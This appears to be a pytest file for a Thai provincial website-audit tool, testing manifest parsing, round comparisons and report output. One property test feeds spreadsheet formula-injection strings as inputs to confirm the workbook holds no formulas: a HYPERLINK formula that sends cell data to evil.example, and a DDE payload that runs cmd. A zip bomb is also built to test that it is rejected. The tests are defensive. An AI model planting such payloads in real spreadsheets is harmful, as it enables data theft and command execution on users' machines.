"""The province audit as the officer's follow-up sheet: manifests as officers keep them, every row
accounted for, and what changed between rounds.

The manifest here is what an officer's Excel holds: Thai headings in their own order, district,
phone and contact columns, one unit written twice with different spellings, rows with mistakes;
saved as "CSV" by Thai Excel (windows-874) and as .xlsx.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from checks.province.manifest import Manifest, SkippedRow, UnitRow, read_manifest, unit_key
from checks.province.outputs import xlsx_bytes
from checks.province.records import FindingLine, ItemLine, UnitRecord
from checks.province.summary import Change, compare, province
from generator.basics.errors import ConfigError, Location
from generator.basics.textfile import FORMULA_START
from tests.province_sites import YEAR
from tests.province_sites import province as loopback_province
from tests.servers import PDF, ok, status

HEADER = ["อำเภอ", "หน่วยงาน", "เว็บไซต์หลัก", "โทรศัพท์", "source", "ผู้ติดต่อ"]
DISTRICTS = ["เมืองขอนแก่น", "บ้านฝาง", "พระยืน", "น้ำพอง", "ชุมแพ"]


def write_xlsx(path: Path, rows: list[list[str]]) -> None:
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)


# ---- manifests as officers keep them ---------------------------------------------------------------

OFFICERS_ROWS = [HEADER,
                 ["เมืองขอนแก่น", "เทศบาลตำบลบ้านเป็ด", "https://www.banped.go.th/", "043-123456", "https://www.banped.go.th/ita/", "นางสาวสมศรี ใจดี"],
                 ["บ้านฝาง", "อบต.ป่าหวายนั่ง", "HTTP://WWW.PAWAI.GO.TH", "043-654321", "https://www.pawai.go.th/ita/", "นายสมชาย"],
                 ["บ้านฝาง", "องค์การบริหารส่วนตำบลป่าหวายนั่ง", "http://www.pawai.go.th/", "", "https://www.pawai.go.th/ita/", ""],
                 ["พระยืน", "อบต.ขามป้อม", "www.khampom.go.th", "", "https://www.khampom.go.th/ita/", ""]]


@pytest.mark.parametrize("saved_as", ["utf-8", "utf-8-sig", "cp874", "xlsx"])
def test_a_manifest_is_read_alike_however_excel_saved_it(tmp_path, saved_as):
    if saved_as == "xlsx":
        path = tmp_path / "ขอนแก่น.xlsx"
        write_xlsx(path, OFFICERS_ROWS)
    else:
        path = tmp_path / "ขอนแก่น.csv"
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerows(OFFICERS_ROWS)
        path.write_bytes(buffer.getvalue().encode(saved_as))
    manifest = read_manifest(path, path.name)
    assert [(row.unit, row.extra) for row in manifest.rows] == [
        ("เทศบาลตำบลบ้านเป็ด", ("เมืองขอนแก่น", "043-123456", "นางสาวสมศรี ใจดี")),
        ("อบต.ป่าหวายนั่ง", ("บ้านฝาง", "043-654321", "นายสมชาย"))]
    assert manifest.extra_columns == ("อำเภอ", "โทรศัพท์", "ผู้ติดต่อ")
    assert [(skip.location.line, skip.field) for skip in manifest.skipped] == [(4, "main_website"), (5, "main_website")]
    assert "บรรทัด 3" in manifest.skipped[0].reason  # the duplicate names the row it repeats
    assert manifest.total == 4 and manifest.note.startswith(f"{path.name}: อ่านเป็นรหัสอักษร windows-874") == (saved_as == "cp874")


def test_a_title_row_above_the_header_and_excels_other_text_formats_are_read(tmp_path):
    rows = [["รายชื่อ อปท. จังหวัดขอนแก่น ปีงบประมาณ 2569"], [], *OFFICERS_ROWS]
    write_xlsx(tmp_path / "titled.xlsx", rows)
    text = "\r\n".join("\t".join(row) for row in rows)
    (tmp_path / "unicode-text.txt").write_bytes(text.encode("utf-16"))  # Excel's "Unicode Text": UTF-16, tabs
    (tmp_path / "semicolons.csv").write_text("\n".join(";".join(row) for row in OFFICERS_ROWS), encoding="utf-8")
    for name in ("titled.xlsx", "unicode-text.txt", "semicolons.csv"):
        manifest = read_manifest(tmp_path / name, name)
        assert [row.unit for row in manifest.rows] == ["เทศบาลตำบลบ้านเป็ด", "อบต.ป่าหวายนั่ง"], name
        assert manifest.extra_columns == ("อำเภอ", "โทรศัพท์", "ผู้ติดต่อ"), name
    assert read_manifest(tmp_path / "titled.xlsx", "titled.xlsx").rows[0].location.line == 4  # the sheet's own row


def test_a_list_path_typed_with_windows_backslashes_is_found(tmp_path):
    (tmp_path / "รายการ").mkdir()
    (tmp_path / "รายการ" / "บ้านเป็ด.csv").write_text("item,url\n", encoding="utf-8")
    (tmp_path / "units.csv").write_text("unit,main_website,source\nเทศบาลตำบลบ้านเป็ด,https://www.banped.go.th/,"
                                        "รายการ\\บ้านเป็ด.csv\n", encoding="utf-8")
    [row] = read_manifest(tmp_path / "units.csv", "units.csv").rows
    assert Path(row.source) == tmp_path / "รายการ" / "บ้านเป็ด.csv"


@pytest.mark.parametrize("written", ["http://www.pawai.go.th/", "http://www.pawai.go.th", "HTTP://www.pawai.go.th/",
                                     "https://WWW.Pawai.go.th./", "http://www.pawai.go.th:80/ita/"])
def test_one_main_website_however_it_is_spelt_is_one_unit(written):
    assert unit_key(written) == "www.pawai.go.th"


def test_another_port_is_another_site():
    assert unit_key("http://www.pawai.go.th:8080/") == "www.pawai.go.th:8080"


@pytest.mark.parametrize(("name", "content", "message"), [
    ("units.xls", b"\xd0\xcf\x11\xe0", "CSV UTF-8"),
    ("units.xlsx", b"not a zip", "ไม่ใช่ไฟล์ Excel"),
    ("units.csv", "unit,website\nอบต.ก,https://a.go.th/\n".encode(), '"main_website"'),
])
def test_a_manifest_that_cannot_be_used_is_a_thai_message_naming_it(tmp_path, name, content, message):
    (tmp_path / name).write_bytes(content)
    with pytest.raises(ConfigError, match=message) as error:
        read_manifest(tmp_path / name, name)
    assert name in str(error.value)


def test_a_workbook_that_unpacks_to_a_bomb_is_not_opened(tmp_path):
    import zipfile

    with zipfile.ZipFile(tmp_path / "units.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (201 * 1024 * 1024))
    with pytest.raises(ConfigError, match="ใหญ่ผิดปกติ"):
        read_manifest(tmp_path / "units.xlsx", "units.xlsx")


# ---- counts that add up, rounds that compare ----------------------------------------------------------

def record(main_website: str, verdicts: dict[str, str], *, audited: bool = True) -> UnitRecord:
    items = tuple(ItemLine(item, f"รายการ {item}", verdict,
                           (FindingLine("dead-link", "error", "เปิดลิงก์ไม่ได้", f"{main_website}{item}.pdf"),)
                           if verdict == "zero" else ()) for item, verdict in verdicts.items())
    return UnitRecord("หน่วยงาน", main_website, YEAR, "done" if audited else "not_audited", "",
                      audited, 90.0 if audited else None, 95.0 if audited else None, 0, 0, items)


def test_each_item_is_fixed_new_or_still_failing_since_the_earlier_round():
    before = record("https://a.go.th/", {"O1": "zero", "O2": "zero", "O3": "pass", "O4": "at_risk"})
    now = record("https://a.go.th/", {"O1": "pass", "O2": "zero", "O3": "zero", "O4": "pass"})
    marks, text = compare(now, before)
    assert marks == {"O1": Change.FIXED, "O2": Change.STILL, "O3": Change.NEW, "O4": Change.FIXED}
    assert text.startswith("แก้แล้ว 2 · พบใหม่ 1 · ยังไม่แก้ 1")


def test_a_round_that_could_not_audit_compares_nothing():
    audited = record("https://a.go.th/", {"O1": "zero"})
    unaudited = record("https://a.go.th/", {}, audited=False)
    assert compare(audited, unaudited) == ({}, "รอบก่อนตรวจไม่ได้ จึงเทียบไม่ได้")
    assert compare(unaudited, audited) == ({}, "รอบนี้ตรวจไม่ได้ จึงเทียบไม่ได้")
    assert compare(audited, None) == ({}, "ไม่มีในรอบก่อน")


outcomes = st.sampled_from(["done", "not_audited", "skipped", "pending", "other-year", "outside"])


@settings(max_examples=80, deadline=None)
@given(rows=st.lists(outcomes, max_size=30))
def test_every_manifest_row_is_counted_once_whatever_its_outcome(rows):
    units, skipped, records = [], [], []
    for number, outcome in enumerate(rows):
        website = f"https://u{number}.go.th/"
        if outcome == "skipped":
            skipped.append(SkippedRow(Location("units.csv", number + 2), f"อบต.{number}", website, "source", "ไม่มี"))
            continue
        units.append(UnitRow(f"อบต.{number}", website, "a.csv", "a.csv", Location("units.csv", number + 2)))
        if outcome in ("done", "not_audited"):
            records.append(record(website, {"O1": "zero" if number % 2 else "pass"}, audited=outcome == "done"))
        elif outcome == "other-year":
            records.append(UnitRecord("x", website, YEAR - 1, "done", "", True, 100.0, 100.0, 0, 1))
        records.append(record(f"https://elsewhere{number}.go.th/", {})) if outcome == "outside" else None
    view = province(Manifest("units.csv", tuple(units), tuple(skipped), (), ""), records, lambda row: YEAR)
    counts = view.counts
    assert counts.adds_up and counts.total == len(rows) == len(view.lines)
    assert counts.done == rows.count("done") and counts.skipped == rows.count("skipped")
    assert counts.pending == rows.count("pending") + rows.count("other-year") + rows.count("outside")
    assert bool(view.ignored) == bool(rows.count("other-year") + rows.count("outside"))


texts = st.one_of(st.sampled_from(['=HYPERLINK("http://evil.example/?x="&A1)', "+1+cmd|' /C calc'!A0", "@SUM(1)",
                                   "\t=1", "-2+3", "\x07bell\x1b[31m", "\x07=1+1", "\x00@SUM(1)"]),
                  st.text(max_size=15))


@settings(max_examples=40, deadline=None)
@given(unit=texts, contact=texts)
def test_no_cell_of_the_workbook_is_a_formula_and_names_stay_whole(unit, contact):
    from openpyxl import load_workbook

    skipped = SkippedRow(Location("units.csv", 2), unit, "https://a.go.th/", "source", "ไม่มีไฟล์", (contact,))
    view = province(Manifest("units.csv", (), (skipped,), ("ผู้ติดต่อ",), ""), [], lambda row: YEAR)
    book = load_workbook(io.BytesIO(xlsx_bytes(view, ("ผู้ติดต่อ",), "1 ธันวาคม 2569")))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f" and not (isinstance(cell.value, str) and cell.value.startswith(FORMULA_START))
        assert "ITA" in sheet["A1"].value and sheet["A2"].value == "ITA ปี"


# ---- a province over loopback, two rounds ------------------------------------------------------------------

FAST = ["--timeout", "5", "--retries", "0", "--year", str(YEAR), "--workers", "1"]


def province_audit(folder: Path, manifest: str, out: str, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "command.main", "province-audit", manifest, "--out", out, *FAST, *args],
                          cwd=folder, capture_output=True, text=True, timeout=240)


def sheet(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture(scope="module")
def rounds(tmp_path_factory):
    """Ten loopback units (one unreachable, one with broken documents, one on Google Drive…), a
    manifest with a dead ITA center, a duplicate spelling and two bad rows; round one, then units
    fix and break things, then round two by --compare and by --recheck."""
    folder = tmp_path_factory.mktemp("province")
    with loopback_province(folder, count=10) as sites:
        rows = [HEADER]
        for unit in sites.units:
            source = sites.source(unit) if unit.number != 4 else f"{sites.bases[4]}/ita/ไม่มีหน้านี้/"  # a dead ITA center
            rows.append([DISTRICTS[unit.number % 5], unit.name, sites.bases[unit.number] + "/", f"043-00{unit.number}",
                         source, f"ผู้ติดต่อ {unit.number}"])
        rows.append(["บ้านฝาง", "ชื่อซ้ำ", sites.bases[2].upper(), "", sites.source(sites.units[2]), ""])  # HTTP://127.0.0.4:port
        rows.append(["พระยืน", "อบต.ไม่มีเว็บ", "www.no-scheme.go.th", "", "x.csv", ""])
        rows.append(["ชุมแพ", "อบต.ไม่มีไฟล์", "https://www.nofile.go.th/", "", "ไม่มีไฟล์นี้.csv", ""])
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerows(rows)
        (folder / "ขอนแก่น.csv").write_bytes(buffer.getvalue().encode("cp874"))  # Thai Excel's "CSV"
        write_xlsx(folder / "ขอนแก่น.xlsx", rows)
        first = province_audit(folder, "ขอนแก่น.csv", "round1")
        shutil.copytree(folder / "round1", folder / "recheck")
        # Between rounds: unit 5 fixes its two broken documents, unit 6 breaks one; unit 7 stays on Drive.
        sites.servers[5].routes.update({f"/ita/{YEAR}/o{n}/doc-{n}.pdf": ok("application/pdf", PDF) for n in (3, 4)})
        sites.servers[6].routes[f"/ita/{YEAR}/o10/doc-10.pdf"] = status(404)
        compared = province_audit(folder, "ขอนแก่น.xlsx", "round2", "--compare", "round1")
        rechecked = province_audit(folder, "ขอนแก่น.xlsx", "recheck", "--recheck", "problems")
        yield folder, sites, first, compared, rechecked


def outcome_by_line(folder: Path, out: str) -> dict[int, str]:
    return {int(row["แถวในไฟล์รายชื่อ"]): row["ผลการตรวจ"] for row in sheet(folder / out / "province-units.csv")}


EXPECTED = {2: "ตรวจครบ", 3: "ตรวจครบ", 4: "ตรวจครบ", 5: "ตรวจไม่ได้", 6: "ตรวจไม่ได้", 7: "ตรวจครบ", 8: "ตรวจครบ",
            9: "ตรวจครบ", 10: "ตรวจครบ", 11: "ตรวจครบ", 12: "ข้าม (แถวในไฟล์รายชื่อไม่ถูกต้อง)",
            13: "ข้าม (แถวในไฟล์รายชื่อไม่ถูกต้อง)", 14: "ข้าม (แถวในไฟล์รายชื่อไม่ถูกต้อง)"}


@pytest.mark.slow
def test_every_row_of_the_manifest_has_its_outcome_and_the_counts_add_up(rounds):
    folder, sites, first, _, _ = rounds
    assert first.returncode == 2, first.stderr
    assert "ขอนแก่น.csv: อ่านเป็นรหัสอักษร windows-874" in first.stderr
    assert "ไฟล์รายชื่อมี 13 แถว: ตรวจครบ 8 · ตรวจไม่ได้ 2 · ข้าม 3" in first.stdout
    assert outcome_by_line(folder, "round1") == EXPECTED
    page = (folder / "round1" / "province.html").read_text(encoding="utf-8").replace("<wbr>", "")
    assert "ไฟล์รายชื่อมี 13 แถว: ตรวจครบ 8 ·" in page and "ITA 2569 · ขอนแก่น.csv" in page
    for unit in sites.units:  # every unit by name, the unreachable and the dead ITA center too
        assert unit.name in page
    assert "ตรวจไม่ได้ 2 แถว" in page and "ข้าม (แถวในไฟล์รายชื่อไม่ถูกต้อง) 3 แถว" in page
    assert "แถวที่ 12 · ชื่อซ้ำ" in page and "เว็บไซต์หลักเดียวกับบรรทัด 4" in page


@pytest.mark.slow
def test_the_follow_up_sheet_has_a_row_per_unit_and_item_to_act_on_with_the_officers_columns(rounds):
    folder, sites, _, _, _ = rounds
    rows = sheet(folder / "round1" / "province.csv")
    broken = [row for row in rows if row["หน่วยงาน"] == sites.units[5].name and row["ผล"] == "ได้ 0 คะแนน"]
    assert [row["รายการ"] for row in broken] == ["O3", "O4"]
    assert broken[0]["ผล"] == "ได้ 0 คะแนน" and broken[0]["สาเหตุ"] == "เปิดลิงก์ไม่ได้"
    assert broken[0]["URL"].endswith("/ita/2569/o3/doc-3.pdf") and broken[0]["สิ่งที่ต้องแก้"]
    assert (broken[0]["อำเภอ"], broken[0]["โทรศัพท์"], broken[0]["ผู้ติดต่อ"]) == ("เมืองขอนแก่น", "043-005", "ผู้ติดต่อ 5")
    [drive] = [row for row in rows if row["หน่วยงาน"] == sites.units[7].name and row["ผล"] == "ได้ 0 คะแนน"]
    assert drive["รายการ"] == "O2" and drive["สาเหตุ"] == "ลิงก์อยู่นอกเว็บไซต์หลัก: Google Drive"
    unaudited = {row["หน่วยงาน"]: row for row in rows if row["ผลการตรวจหน่วยงาน"] == "ตรวจไม่ได้"}
    assert set(unaudited) == {sites.units[3].name, sites.units[4].name}
    assert "--recheck" in unaudited[sites.units[3].name]["สิ่งที่ต้องแก้"]
    skipped = [row["แถวในไฟล์รายชื่อ"] for row in rows if row["ผลการตรวจหน่วยงาน"].startswith("ข้าม")]
    assert skipped == ["12", "13", "14"]


@pytest.mark.slow
def test_each_unit_has_a_page_to_send_it_linked_from_the_summary(rounds):
    folder, sites, _, _, _ = rounds
    [row] = [row for row in sheet(folder / "round1" / "province-units.csv") if row["หน่วยงาน"] == sites.units[5].name]
    page = (folder / "round1" / row["หน้ารายงานของหน่วยงาน"]).read_text(encoding="utf-8").replace("<wbr>", "")
    assert sites.units[5].name in page and "ตรวจเมื่อ" in page and "font/woff2;base64," in page
    assert "doc-3.pdf" in page and '<span class="zero">ได้ 0 คะแนน 2</span>' in page
    assert f'href="{row["หน้ารายงานของหน่วยงาน"]}"' in (folder / "round1" / "province.html").read_text(encoding="utf-8")


@pytest.mark.slow
def test_the_workbook_holds_both_sheets_with_the_year_and_the_list_in_their_titles(rounds):
    from openpyxl import load_workbook

    folder, *_ = rounds
    book = load_workbook(folder / "round1" / "province.xlsx")
    assert book.sheetnames == ["ติดตามรายการ", "สรุปรายหน่วยงาน"]
    for name in book.sheetnames:
        assert "ITA 2569 · ขอนแก่น.csv" in book[name]["A1"].value
    assert book["สรุปรายหน่วยงาน"].max_row == 2 + 13  # title, header, every manifest row


@pytest.mark.slow
@pytest.mark.parametrize("run", ["compared", "rechecked"])
def test_a_second_round_marks_each_item_fixed_new_or_still_failing(rounds, run):
    folder, sites, _, compared, rechecked = rounds
    result, out = (compared, "round2") if run == "compared" else (rechecked, "recheck")
    assert result.returncode == 2, result.stderr
    assert "เทียบกับรอบก่อน: แก้แล้ว 2 รายการ · พบใหม่ 1 · ยังไม่แก้" in result.stdout
    marks = {(row["หน่วยงาน"], row["รายการ"]): row["เทียบรอบก่อน"] for row in sheet(folder / out / "province.csv")
             if row["เทียบรอบก่อน"]}
    changed = {(sites.units[5].name, "O3"): "แก้แล้ว", (sites.units[5].name, "O4"): "แก้แล้ว",
               (sites.units[6].name, "O10"): "พบใหม่", (sites.units[7].name, "O2"): "ยังไม่แก้"}
    assert {key: marks[key] for key in changed} == changed
    assert {mark for key, mark in marks.items() if key not in changed} == {"ยังไม่แก้"}  # the rest as it was
    page = (folder / out / "province.html").read_text(encoding="utf-8").replace("<wbr>", "")
    assert "O10</span> <span class=\"change\">(พบใหม่)" in page


@pytest.mark.slow
def test_recheck_keeps_the_earlier_round_and_audits_again_only_units_with_problems(rounds):
    folder, _sites, _, _, _rechecked = rounds
    [kept] = (folder / "recheck" / "rounds").glob("round-01-*.jsonl")
    assert kept.read_bytes() == (folder / "round1" / "results.jsonl").read_bytes()
    lines = (folder / "recheck" / "results.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(lines) == 8 + 2  # every unit once (each has an item at risk, so each is audited again)
    assert outcome_by_line(folder, "recheck") == EXPECTED


def test_recheck_of_problems_carries_the_units_with_nothing_to_fix_over_and_keeps_the_round_whole(tmp_path):
    import json

    from checks.province.rounds import has_problems, start_recheck

    def line(main_website: str, verdict: str) -> str:
        return json.dumps({"schema": "ita-province-unit/1", "unit": "อบต.", "main_website": main_website, "year": YEAR,
                           "status": "done", "report": {"estimated_oit": {"low": 90.0, "high": 100.0},
                                                        "summary": {"pass": 1, "at_risk": 0, "zero": 0},
                                                        "items": [{"id": "O1", "verdict": verdict, "findings": []}]}},
                          ensure_ascii=False) + "\n"
    results = tmp_path / "results.jsonl"
    before = line("https://fine.go.th/", "pass") + line("https://broken.go.th/", "zero")
    results.write_text(before, encoding="utf-8")
    kept = start_recheck(tmp_path, results, lambda record: not has_problems(record))
    assert kept.read_text(encoding="utf-8") == before and kept.parent.name == "rounds"
    assert results.read_text(encoding="utf-8") == line("https://fine.go.th/", "pass")


@pytest.mark.slow
def test_recheck_with_resume_goes_on_with_the_round_under_way_and_keeps_no_new_one(rounds):
    folder, *_ = rounds
    shutil.copytree(folder / "recheck", folder / "recheck-again")
    result = province_audit(folder, "ขอนแก่น.xlsx", "recheck-again", "--recheck", "problems", "--resume")
    assert result.returncode == 2, result.stderr
    assert len(list((folder / "recheck-again" / "rounds").glob("round-*.jsonl"))) == 1  # still the one kept
    assert "เทียบกับรอบก่อน: แก้แล้ว 2 รายการ" in result.stdout  # against that kept round


def test_resume_counts_only_this_manifest_and_year_and_says_what_it_ignored(rounds):
    folder, sites, *_ = rounds
    (folder / "two.csv").write_text("unit,main_website,source\n" + "".join(
        f"{unit.name},{sites.bases[unit.number]}/,{sites.source(unit)}\n" for unit in sites.units[5:7]), encoding="utf-8")
    result = province_audit(folder, "two.csv", "round2", "--resume")
    assert "ไฟล์รายชื่อมี 2 แถว: ตรวจครบ 2 · ตรวจไม่ได้ 0 · ข้าม 0" in result.stdout
    assert "ผลเดิม 8 หน่วยงานใน results.jsonl ไม่อยู่ในไฟล์รายชื่อนี้" in result.stderr
    assert len(sheet(folder / "round2" / "province-units.csv")) == 2


# In Chromium at a phone's width: every figure keeps its label, the chart gives way, Thai breaks between words.
PHONE_LAYOUT = """() => {
  const cells = [...document.querySelectorAll('td[data-label]')].filter(td => td.offsetParent !== null);
  const unlabelled = cells.filter(td => !getComputedStyle(td, '::before').content.includes(td.dataset.label))
                          .map(td => td.dataset.label);
  const chart = document.querySelector('svg.chart');
  const chartText = chart && chart.getBoundingClientRect().height > 0
      ? [...chart.querySelectorAll('text')].map(t => t.getBoundingClientRect().height).filter(h => h < 11) : [];
  return {cells: cells.length, unlabelled, smallChartText: chartText.length,
          wider: document.documentElement.scrollWidth > window.innerWidth};
}"""


@pytest.mark.slow
def test_on_a_phone_every_figure_keeps_its_label_and_no_chart_text_is_too_small(rounds):
    from generator.basics.thai_words import ThaiWords
    from tests.browser import browser
    from tests.test_thai_lines_break_between_words import LINE_BREAKS, boundaries

    folder, *_ = rounds
    with browser() as chromium:
        page = chromium.new_page(viewport={"width": 390, "height": 844})
        page.goto((folder / "recheck" / "province.html").as_uri())
        layout = page.evaluate(PHONE_LAYOUT)
        words = ThaiWords()
        broken = [(text, at) for text, breaks in page.evaluate(LINE_BREAKS, "body") for at in breaks
                  if at not in boundaries(text, words)]
        page.close()
    assert layout["cells"] > 13 * 5 and layout["unlabelled"] == [] and layout["smallChartText"] == 0
    assert not layout["wider"]
    assert not broken, [f"{text[:at]}/{text[at:]}" for text, at in broken][:5]
